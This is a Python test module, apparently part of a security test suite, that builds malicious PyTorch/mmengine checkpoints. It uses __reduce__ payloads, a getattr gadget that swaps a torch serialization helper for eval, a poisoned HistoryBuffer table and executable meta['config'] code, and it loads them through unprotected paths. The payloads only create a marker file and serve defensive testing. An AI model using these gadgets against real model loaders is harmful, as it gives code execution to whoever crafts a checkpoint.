"""The first payloads of the checkpoint matrix: code through the unpickler and ``meta['config']``.

- ``reduce``: a real Runner checkpoint with an object in ``meta`` whose ``__reduce__`` calls
  ``open(marker, 'w')`` (zip format);
- ``legacy_reduce``: the same in torch's legacy (non-zip) format;
- ``getattr_gadget``: a pickle that only uses what an allow-list with ``builtins.getattr``
  permits: it reaches ``torch.serialization._get_layout.__globals__``, replaces
  ``_maybe_decode_ascii`` with ``eval`` and has the unpickler pass it a string from the file
  (runs with the allow-list mmvrwkv had before; plain torch refuses it);
- ``history_buffer_table``: a real checkpoint whose HistoryBuffers pickle a statistics table
  that maps ``'mean'`` to ``numpy.dtype`` (an allowed callable, but not HistoryBuffer.mean);
  loaded without the table check, the class table of the whole process is changed;
- ``meta_config``: a real checkpoint whose ``meta['config']`` is Python code (mmengine's
  ``Runner.resume`` executes that text with ``Config.fromstring``).

No mmvrwkv import at module level (see ``payloads.py``).
"""
import io
import pickle
from pathlib import Path
from typing import Any, List

import torch

from payloads import Payload


# ----------------------------------------------------------------------------- pieces

class _Open:
    """Unpickles as ``open(marker, 'w')``."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return open, (self.marker, 'w')


class _GetAttr:
    """Unpickles as ``getattr(obj, name)``, then (optionally) sets items on the result."""

    def __init__(self, obj: Any, name: str, items: Any = None) -> None:
        self.obj, self.name, self.items = obj, name, items

    def __reduce__(self):
        if self.items is None:
            return getattr, (self.obj, self.name)
        return getattr, (self.obj, self.name), None, None, iter(self.items)


class _PersistentString:
    """Pickled as a persistent id ``(text,)``: the unpickler passes text to
    ``torch.serialization._maybe_decode_ascii``."""

    def __init__(self, text: str) -> None:
        self.text = text


class _PidPickler(pickle.Pickler):
    def persistent_id(self, obj):
        return (obj.text,) if isinstance(obj, _PersistentString) else None


def load_trusted(real_checkpoint: str) -> dict:
    """The test's own real checkpoint, read in full and unchanged (no gate: it is ours)."""
    return torch.load(real_checkpoint, map_location='cpu', weights_only=False)


def write_zip_records(path: Path, pickle_bytes: bytes) -> None:
    """A torch zip checkpoint holding exactly ``pickle_bytes`` as its data.pkl."""
    writer = torch._C.PyTorchFileWriter(str(path))
    writer.write_record('data.pkl', pickle_bytes, len(pickle_bytes))
    writer.write_record('byteorder', b'little', len(b'little'))
    writer.write_end_of_file()


def marker_code(marker: Path) -> str:
    """Python that creates ``marker``."""
    return f"open({str(marker)!r}, 'w').close()\n"


# ----------------------------------------------------------------------------- builders

def build_reduce(path: Path, marker: Path, victim: Path, real_checkpoint: str,
                 zip_format: bool = True) -> None:
    ckpt = load_trusted(real_checkpoint)
    ckpt['meta']['note'] = _Open(marker)
    torch.save(ckpt, str(path), _use_new_zipfile_serialization=zip_format)


def build_legacy_reduce(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    build_reduce(path, marker, victim, real_checkpoint, zip_format=False)


def getattr_gadget_bytes(marker: Path) -> bytes:
    builtins_module = _GetAttr(getattr, '__self__')        # getattr.__self__ is builtins
    evil = _GetAttr(builtins_module, 'eval')
    serialization_globals = _GetAttr(torch.serialization._get_layout, '__globals__',
                                     items=[('_maybe_decode_ascii', evil)])
    code = f"open({str(marker)!r}, 'w').close() or 'storage'"
    buf = io.BytesIO()
    _PidPickler(buf, protocol=2).dump([serialization_globals, _PersistentString(code)])
    return buf.getvalue()


def build_getattr_gadget(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    write_zip_records(path, getattr_gadget_bytes(marker))


def build_history_buffer_table(path: Path, marker: Path, victim: Path,
                               real_checkpoint: str) -> None:
    """The real checkpoint, saved while HistoryBuffer's class table maps 'mean' to
    ``numpy.dtype`` (every buffer pickles that table)."""
    import numpy as np
    from mmengine.logging import HistoryBuffer
    ckpt = load_trusted(real_checkpoint)
    assert ckpt['message_hub']['log_scalars'], 'the real checkpoint has no HistoryBuffer'
    table = HistoryBuffer._statistics_methods
    saved = dict(table)
    table['mean'] = np.dtype
    try:
        torch.save(ckpt, str(path))
    finally:
        table.clear()
        table.update(saved)


def build_meta_config(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    ckpt = load_trusted(real_checkpoint)
    ckpt['meta']['config'] = marker_code(marker) + 'gpu_ids = [0]\n'
    torch.save(ckpt, str(path))


# ----------------------------------------------------------------------------- unprotected

def full_unpickling(path: Path, marker: Path, victim: Path) -> None:
    """``torch.load(weights_only=False)``: what torch < 2.6 and mmengine's own loaders did."""
    torch.load(str(path), map_location='cpu', weights_only=False)


def old_allow_list() -> List[Any]:
    """mmvrwkv's allow-list before issue 21's table check, with the real ``getattr``."""
    import builtins

    import numpy as np
    from mmengine.logging import HistoryBuffer
    from numpy._core import multiarray
    dtypes = [getattr(np.dtypes, n) for n in dir(np.dtypes) if n.endswith('DType')]
    return [HistoryBuffer, np.ndarray, np.dtype, builtins.getattr,
            multiarray._reconstruct, multiarray.scalar] + dtypes


def load_with_real_getattr(path: Path, marker: Path, victim: Path) -> None:
    """Weights-only loading with ``builtins.getattr`` allowed (mmvrwkv's list before)."""
    import builtins
    torch.serialization.add_safe_globals([builtins.getattr])
    try:
        torch.load(str(path), map_location='cpu', weights_only=True)
    except Exception:  # noqa: BLE001  (the code ran while unpickling; the rest may fail)
        pass


def load_without_table_check(path: Path, marker: Path, victim: Path) -> None:
    """Weights-only loading with the old allow-list and no table check: the process-wide
    HistoryBuffer table is changed, which the demonstration records as the marker."""
    from mmengine.logging import HistoryBuffer
    torch.serialization.add_safe_globals(old_allow_list())
    torch.load(str(path), map_location='cpu', weights_only=True)
    if HistoryBuffer._statistics_methods.get('mean') is not HistoryBuffer.__dict__['mean']:
        marker.write_text(f"HistoryBuffer's 'mean' is now "
                          f"{HistoryBuffer._statistics_methods.get('mean')!r}")


def resume_executes_meta_config(path: Path, marker: Path, victim: Path) -> None:
    """What mmengine's ``Runner.resume`` does with ``meta['config']``."""
    from mmengine.config import Config
    ckpt = torch.load(str(path), map_location='cpu', weights_only=False)
    Config.fromstring(ckpt['meta']['config'], file_format='.py')


PAYLOADS = [
    Payload('reduce', build_reduce, 'refused', full_unpickling, must_name='io.open'),
    Payload('legacy_reduce', build_legacy_reduce, 'refused', full_unpickling,
            must_name='io.open'),
    Payload('getattr_gadget', build_getattr_gadget, 'refused', load_with_real_getattr,
            must_name='getattr'),
    Payload('history_buffer_table', build_history_buffer_table, 'refused',
            load_without_table_check, must_name="'mean'"),
    Payload('meta_config', build_meta_config, 'safe', resume_executes_meta_config),
]
